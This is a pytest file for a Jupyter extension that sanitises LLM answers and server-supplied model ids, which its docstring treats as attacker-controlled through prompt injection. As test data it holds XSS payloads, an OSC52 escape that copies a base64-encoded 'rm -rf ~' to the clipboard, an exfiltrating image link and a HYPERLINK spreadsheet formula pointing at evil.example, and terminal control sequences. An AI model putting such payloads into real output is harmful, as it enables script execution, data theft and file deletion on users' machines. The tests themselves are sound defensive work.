"""Model and server text can never run: the pure rendering, then a real kernel's outputs.

An answer is written by whoever wrote the data the model read (prompt injection), and a
model id by whoever runs the server.  JupyterLab trusts live outputs, terminals obey
escape sequences, spreadsheets run formulas: each test feeds such text in and checks
what comes out, structurally (an HTML parser, not substring hopes).
"""

from __future__ import annotations

import html
import json
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from processes import loaded_by
from test_terminal import run_ipython

from edge_jupyter.answer_format import code_html
from edge_jupyter.ledger import export, read_export
from edge_jupyter.untrusted_text import markdown_to_safe_html, strip_controls

HOSTILE = [
    "<script>document.title='pwned'</script>",
    "<img src=x onerror=\"document.title='pwned'\">",
    "<svg onload=\"document.title='pwned'\"></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">raw link</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<style>body{display:none}</style>",
    "[md link](javascript:document.title='pwned')",
    "[mixed case](JaVaScRiPt:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pic](javascript:alert(1))",
    "<javascript:alert(1)>",
    "$\\href{javascript:alert(1)}{click}$",
]
OSC52 = "\x1b]52;c;cm0gLXJmIH4K\x07"
CONTROLS = OSC52 + "\x1b[2J\x1b[31m" + "\x9b31m" + "\x9d0;title\x9c" + "\x7f\x00\x08\r"

ALLOWED_TAGS = {"p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "s",
                "del", "code", "pre", "blockquote", "ul", "ol", "li", "table", "thead",
                "tbody", "tr", "th", "td", "a", "span", "div", "b"}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_inert(fragment: str, *, chrome: bool = False) -> list[tuple[str, dict[str, str | None]]]:
    """Only harmless tags, no event handlers, no styles but table alignment, safe URLs.

    ``chrome``: a whole cell output, which also holds this package's own status and cost
    lines (fixed ``class``/``style``/``title`` attributes written by our code).
    """
    parser = _Tags()
    parser.feed(fragment)
    for tag, attrs in parser.tags:
        assert tag in ALLOWED_TAGS, (tag, fragment)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, fragment)
            if name in ("href", "src"):
                assert (value or "").split(":", 1)[0].lower() in ("http", "https", "mailto"), \
                    (tag, value)
            if name == "style" and not chrome:
                assert tag in ("th", "td") and value in (
                    "text-align:left", "text-align:right", "text-align:center"), (tag, value)
    assert "<script" not in fragment.lower() and "<img" not in fragment.lower()
    return parser.tags


def assert_no_controls(text: str) -> None:
    bad = [hex(ord(c)) for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7f <= ord(c) <= 0x9f]
    assert not bad, (bad, text[:200])


# -- pure -----------------------------------------------------------------------------------

@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_markdown_renders_as_inert_html(payload: str) -> None:
    out = markdown_to_safe_html(f"Summary:\n\n{payload}\n\nThe end.")
    assert_inert(out)
    assert "The end." in out  # the rest of the answer still renders


def test_the_payload_is_shown_as_text_not_dropped() -> None:
    out = markdown_to_safe_html(HOSTILE[0] + "\n\n" + HOSTILE[1])
    assert "&lt;script&gt;document.title='pwned'&lt;/script&gt;" in out
    assert "&lt;img src=x onerror=" in out


def test_ordinary_markdown_still_renders() -> None:
    text = ("# Title\n\n## Part *two*\n\n- one\n- **two**\n\n1. first\n2. second\n\n"
            "| left | right |\n|:-----|------:|\n| a | 1 |\n\n"
            "```python\nprint('<b>hi</b>')\n```\n\n"
            "See [the docs](https://openrouter.ai/docs) or mail <mailto:a@b.org>; ~~old~~ `x<y`.\n\n"
            "> quoted")
    out = markdown_to_safe_html(text)
    tags = assert_inert(out)
    names = [t for t, _ in tags]
    for tag in ("h1", "h2", "em", "ul", "ol", "li", "strong", "table", "th", "td", "pre",
                "code", "a", "s", "blockquote"):
        assert tag in names, (tag, out)
    assert '<th style="text-align:right">right</th>' in out
    assert '<code class="language-python">print(\'&lt;b&gt;hi&lt;/b&gt;\')' in out
    assert '<a href="https://openrouter.ai/docs" rel="noopener noreferrer">the docs</a>' in out
    assert "<code>x&lt;y</code>" in out


def test_an_image_becomes_a_link_so_nothing_loads_by_itself() -> None:
    out = markdown_to_safe_html("![the chart](https://evil.example/c.png?q=secret)")
    assert "<img" not in out
    assert '<a href="https://evil.example/c.png?q=secret" rel="noopener noreferrer">🖼 the chart</a>' \
        in out


def test_math_is_kept_whole_for_mathjax_and_escaped() -> None:
    out = markdown_to_safe_html("Inline $a*b*c < d$, display $$x_1*y*$$ and \\(p_*q*\\).\n\n"
                                "\\[\n\\frac{a}{b} > 1\n\\]\n\n$$\n\\sum_i x_i\n$$")
    assert_inert(out)
    assert "<em>" not in out, out  # no emphasis torn out of the formulas
    assert "<span>\\(a*b*c &lt; d\\)</span>" in out
    assert "<span>\\[x_1*y*\\]</span>" in out
    assert "<span>\\(p_*q*\\)</span>" in out
    assert "<div>\\[\n\\frac{a}{b} &gt; 1\n\\]</div>" in out
    assert "<div>\\[\n\\sum_i x_i\n\\]</div>" in out


class _TypesetText(HTMLParser):
    """Text nodes MathJax would scan: outside <code>/<pre>, each node as the browser has it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.code = 0
        self.nodes: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.code += tag in ("code", "pre")

    def handle_endtag(self, tag: str) -> None:
        self.code -= tag in ("code", "pre")

    def handle_data(self, data: str) -> None:
        if not self.code:
            self.nodes.append(data)


#: TeX that reaches plain text, not a math token: MathJax in JupyterLab would still typeset it.
TEX_IN_TEXT = [
    "\\\\(\\href{javascript:alert(1)}{click}\\\\)",
    "\\\\[\\href{javascript:alert(1)}{click}\\\\]",
    "\\begin{equation}\\href{javascript:alert(1)}{click}\\end{equation}",
    "&#92;(\\href{javascript:alert(1)}{click}&#92;)",
    "![\\\\(\\href{javascript:alert(1)}{x}\\\\) $a$ and $b$](https://example.org/c.png)",
]


@pytest.mark.parametrize("payload", TEX_IN_TEXT)
def test_tex_in_plain_text_cannot_start_math(payload: str) -> None:
    out = markdown_to_safe_html(f"Summary: {payload} The end.")
    assert_inert(out)
    parser = _TypesetText()
    parser.feed(out)
    # every delimiter MathJax knows starts with "\\" or "$": alone in a node, none can open
    for node in parser.nodes:
        assert node in ("\\", "$") or ("\\" not in node and "$" not in node), (node, out)
    assert "href{javascript:alert(1)}" in "".join(parser.nodes)  # shown, as text


@pytest.mark.parametrize("tex", ["\\mmlToken{mi}[href='javascript:alert(1)']{x}",
                                 "\\bbox[background:url(https://evil.example/?q=1)]{x}",
                                 "\\href{javascript:alert(1)}{x}", "\\cssId{a}{x}",
                                 "\\require{html}"])
def test_math_with_markup_macros_is_shown_as_code(tex: str) -> None:
    for source in (f" ${tex}$ ", f" $${tex}$$ ", f" \\({tex}\\) ", f"\n\n\\[\n{tex}\n\\]\n\n",
                   f"\n\n$$\n{tex}\n$$\n\n"):
        out = markdown_to_safe_html(f"Before{source}after")
        parser = _TypesetText()
        parser.feed(out)
        assert "".join(parser.nodes).split() == ["Before", "after"], out  # nothing for MathJax
        shown = f"<code>{html.escape(source.strip(), quote=False)}</code>"
        assert shown in out.replace("&#x27;", "'"), out


def test_dollar_amounts_are_not_math() -> None:
    out = markdown_to_safe_html("It costs $5 or $10, not $2.19/M.")
    assert "\\(" not in out
    # each "$" alone in its element: MathJax in the browser cannot pair them up either
    assert out.count("<span>$</span>") == 3


def test_a_fence_that_closes_early_cannot_break_out() -> None:
    answer = "```python\nx = 1\n```\n<img src=x onerror=alert(1)>\n```\ny = 2\n```"
    assert_inert(markdown_to_safe_html(answer))
    code = "s = '''\n```\n<script>alert(1)</script>\n'''"
    out = code_html(code, "python")
    assert assert_inert(out) == [("pre", {}), ("code", {"class": "language-python"})]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out


def test_control_characters_are_removed_and_text_kept() -> None:
    text = "a" + CONTROLS + "b\n\tc é 日本 🙂 \u2028 d"
    # the sequences' printable tails stay, inert without their ESC/CSI/OSC: visible, not obeyed
    assert strip_controls(text) == "a]52;c;cm0gLXJmIH4K[2J[31m31m0;titleb\n\tc é 日本 🙂 \u2028 d"
    assert strip_controls("\r\n") == "\n"  # a CRLF split across chunks gives one line break
    plain = "nothing to remove here\n"
    assert strip_controls(plain) is plain
    assert "\x1b" not in markdown_to_safe_html(OSC52 + "hi") and "hi" in markdown_to_safe_html("hi")


def test_loading_the_extension_imports_no_renderer() -> None:
    assert loaded_by("from IPython.core.interactiveshell import InteractiveShell\n"
                     "InteractiveShell.instance().run_line_magic('load_ext', 'edge_jupyter')",
                     ("markdown_it", "mdit_py_plugins", "nh3")) == []


def test_a_cell_starting_warms_the_renderer_in_one_background_thread() -> None:
    # what a cell's view does first; the thread's work is then done before the answer ends
    statement = ("import threading\n"
                 "from edge_jupyter.magics._render import SingleView\n"
                 "from edge_jupyter.untrusted_text import _cleaner, _markdown\n"
                 "SingleView('m', streaming=True); SingleView('m', streaming=True)\n"
                 "warm = [t for t in threading.enumerate() if t.name == 'edge-render-warm-up']\n"
                 "assert len(warm) <= 1, warm\n"
                 "[t.join(30) for t in warm]\n"
                 "assert _markdown.cache_info().currsize == _cleaner.cache_info().currsize == 1")
    assert loaded_by(statement, ("markdown_it", "mdit_py_plugins", "nh3")) == [
        "markdown_it", "mdit_py_plugins", "nh3"]


def test_exports_defuse_formulas_and_read_back_unchanged(tmp_path: Path) -> None:
    from edge_jupyter.panel._source import Source

    cells = ['=HYPERLINK("https://evil.example/?q="&A1,"x")', "+1+2", "-2+3", "@SUM(A1)",
             "\t=1", "\r=1", "'=already quoted", "plain", "", "a,b\r\nc"]
    frame = pd.DataFrame({"model": cells, "error": list(reversed(cells)),
                          "cost_usd": [-0.5, *range(len(cells) - 1)]})
    for path in (export(frame, tmp_path / "usage.csv"),
                 Source().export_csv(frame, tmp_path, today=pd.Timestamp("2026-01-02").date())):
        raw = pd.read_csv(path, keep_default_na=False, dtype=str)
        for column in ("model", "error"):
            for value in raw[column]:
                assert not value or value[0] not in "=+-@\t\r", (column, value)
        assert raw["cost_usd"].iloc[0] == "-0.5"  # numbers stay numbers
        back = read_export(path)
        assert back["model"].tolist() == cells and back["error"].tolist() == cells[::-1]
        assert back["cost_usd"].tolist() == frame["cost_usd"].tolist()


# -- a real kernel ----------------------------------------------------------------------------

PAYLOAD = "\n\n".join(["# Report", *HOSTILE, OSC52 + "copied", "The end."])


def check_outputs(run: Any) -> None:
    """Every output of a cell: only inert HTML, plain text without controls, no Markdown."""
    for out in run.outputs:
        if out["output_type"] == "stream":
            assert_no_controls(out["text"])
            continue
        for mime, value in out.get("data", {}).items():
            assert mime in ("text/html", "text/plain", "application/json"), mime
            if mime == "text/html":
                assert_inert(value, chrome=True)
            elif mime == "text/plain":
                assert_no_controls(value)
    assert_no_controls(run.streamed)
    assert "\x1b]52" not in run.error_text


def test_a_hostile_answer_reaches_the_notebook_inert(kernel, sb):
    kernel.ok(f"payload = {PAYLOAD!r}")
    run = kernel.ok("%%edge -m openai/gpt-4o-mini\nSummarise this page: [sandbox:echo]{payload}")
    assert sb.completions[-1].text == PAYLOAD  # the model really answered with it
    check_outputs(run)
    answer = next(t for t in run.texts("text/html") if "Report" in t)
    assert "&lt;script&gt;document.title='pwned'&lt;/script&gt;" in answer and "The end." in answer
    shown = kernel.run("_edge")  # the result object's own rich display
    check_outputs(shown)
    assert "&lt;img src=x onerror=" in shown.output_with("text/html")["data"]["text/html"]


def test_hostile_model_ids_are_escaped_in_the_headings(kernel, sb):
    kernel.ok(f"payload = {PAYLOAD!r}")
    run = kernel.ok("%%edge -m openai/gpt-4o-mini -m anthropic/claude-3.5-haiku\n"
                    "[sandbox:model=<img src=x onerror=alert(1)>\x1b[31m\x9b2J]"
                    " Compare: [sandbox:echo]{payload}")
    check_outputs(run)
    headings = [t for t in run.texts("text/html") if t.startswith("<h4>")]
    assert headings == ["<h4>&lt;img src=x onerror=alert(1)&gt;[31m2J</h4>"] * 2
    assert run.texts("text/plain").count("== <img src=x onerror=alert(1)>[31m2J") == 2


def test_history_renders_turns_inert(kernel, sb):
    kernel.ok(f"payload = {PAYLOAD!r}")
    kernel.ok("%%edge -m openai/gpt-4o-mini --chat hostile\n<b onmouseover=alert(1)>me</b> "
              "[sandbox:model=<svg onload=alert(1)>][sandbox:echo]{payload}", cell_id="h1")
    run = kernel.ok("%edge history hostile")
    check_outputs(run)
    html_text = run.output_with("text/html")["data"]["text/html"]
    assert "&lt;svg onload=alert(1)&gt;:" in html_text  # the model id, as text
    assert "&lt;script&gt;document.title='pwned'&lt;/script&gt;" in html_text


@pytest.mark.parametrize("fmt", ["code", "text", "json"])
def test_other_formats_are_inert_too(kernel, sb, fmt):
    answer = {"code": "```python\nx = 1\n```\n<img src=x onerror=alert(1)>" + OSC52 + "\n```",
              "text": PAYLOAD,
              "json": json.dumps({"a": "<script>alert(1)</script>" + OSC52})}[fmt]
    kernel.ok(f"payload = {answer!r}")
    run = kernel.ok(f"%%edge -m openai/gpt-4o-mini -f {fmt}\n[sandbox:echo]{{payload}}")
    assert sb.completions[-1].text == answer
    check_outputs(run)
    if fmt == "code":
        assert kernel.value("_edge.value") == "x = 1"
    if fmt == "json":
        assert kernel.value("_edge.value") == json.loads(answer)  # the value itself is untouched


def test_terminal_ipython_prints_no_escape_sequences(sb, edge_env):
    out = run_ipython("get_ipython().run_line_magic('load_ext', 'edge_jupyter')\n"
                      "get_ipython().run_cell_magic('edge', '-m openai/gpt-4o-mini', "
                      f"'[sandbox:echo]' + {('before' + CONTROLS + 'after').__repr__()})\n"
                      "get_ipython().run_cell_magic('edge', '-m openai/gpt-4o-mini -f text', "
                      f"'[sandbox:echo]' + {('second' + OSC52 + 'answer').__repr__()})",
                      edge_env)
    assert strip_controls("before" + CONTROLS + "after") in out
    assert "second]52;c;cm0gLXJmIH4Kanswer" in out
    assert_no_controls(out)
